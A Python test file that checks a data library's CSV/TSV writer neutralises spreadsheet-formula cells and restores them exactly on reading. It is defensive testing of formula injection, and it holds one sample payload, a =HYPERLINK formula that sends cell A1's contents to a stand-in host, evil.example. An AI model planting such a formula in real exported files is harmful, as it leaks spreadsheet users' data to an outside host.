"""Cells that a spreadsheet would run: none in a written file, and all back when it is read."""

from __future__ import annotations

import csv
import tempfile
from pathlib import Path

import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tastemaker.characters import strip_hostile
from tastemaker.data import Dataset
from tastemaker.data.readers import read
from tastemaker.data.writers.canonical import risky_cells_of, write
from tastemaker.data.writers.formulas import neutralised, restored, risky_cells

STARTS = tuple("=+-@\t\r\n＝＋－＠")
ATTACK = '=HYPERLINK("http://evil.example?"&A1,"Sale")'
texts = st.text(st.sampled_from("=+-@'\t\r\n＝ab "), max_size=5)
ids = st.text(st.sampled_from("=+-@'＝ab"), min_size=1, max_size=4)


def shop(title=ATTACK, user="-1", item="+49"):
    items = {
        "item_id": [item, "plain"],
        "title": [title, "'quoted'"],
        "categories": [["@a", "b"], None],
        "cost": [-1, 2],
    }
    return Dataset.from_frames(pl.DataFrame({"user_id": [user], "item_id": [item]}), pl.DataFrame(items))


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(texts))
def test_no_cell_is_risky_and_all_come_back(cells):
    frame = pl.DataFrame({"=a": cells, "b": range(len(cells))}, schema={"=a": pl.String, "b": pl.Int64})
    safe = neutralised(frame)
    assert not any(cell.startswith(STARTS) for cell in [*safe.columns, *safe[:, 0].to_list()])
    assert restored(safe).equals(frame)
    assert risky_cells(frame) == 1 + (safe[:, 0] != frame[:, 0]).sum()


@pytest.mark.parametrize("notation", ["csv", "tsv"])
def test_files_are_safe_to_open_and_read_back_exactly(tmp_path, notation):
    data = shop()
    write(data, tmp_path / "out", format=notation)
    delimiter = "," if notation == "csv" else "\t"
    for role in ("interactions", "items", "users"):
        with (tmp_path / "out" / f"{role}.{notation}").open(newline="") as file:
            cells = [cell for row in csv.reader(file, delimiter=delimiter) for cell in row]
        assert [cell for cell in cells if cell.startswith(STARTS)] == (["-1"] if role == "items" else [])  # a number
    back, report = read(tmp_path / "out")
    assert report.ok
    assert back.fingerprint == data.fingerprint
    assert risky_cells_of(data) == 6  # title, categories, and two ids in two files each


def test_the_caller_may_have_cells_as_they_are(tmp_path):
    data = shop()
    write(data, tmp_path / "out", format="csv", neutralise=False)
    assert "\n+49," in (tmp_path / "out" / "items.csv").read_text()
    assert read(tmp_path / "out")[0].fingerprint == data.fingerprint
    harmless = shop(title="'mug'", user="u", item="i")
    write(harmless, tmp_path / "same", format="csv")
    assert (tmp_path / "same" / "schema.json").read_text().startswith('{\n "tastemaker": 2')  # for "@a"


def test_files_without_such_cells_stay_as_they_were(tmp_path):
    data = Dataset.from_frames(pl.DataFrame({"user_id": ["u"], "item_id": ["'i"], "note": ["''"]}))
    write(data, tmp_path / "a", format="csv")
    write(data, tmp_path / "b", format="csv", neutralise=False)
    for name in ("schema.json", "interactions.csv"):
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes()


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(ids, ids, texts), min_size=1, max_size=6))
def test_any_ids_and_texts_survive(rows):
    rows = [row for row in rows if strip_hostile(row[0]) and strip_hostile(row[1])] or [("u", "i", "")]
    users, items, words = zip(*rows, strict=True)
    data = Dataset.from_frames(pl.DataFrame({"user_id": users, "item_id": items, "note": words}))
    with tempfile.TemporaryDirectory() as folder:
        for notation in ("csv", "tsv"):
            write(data, Path(folder) / notation, format=notation)
            assert read(Path(folder) / notation)[0].fingerprint == data.fingerprint
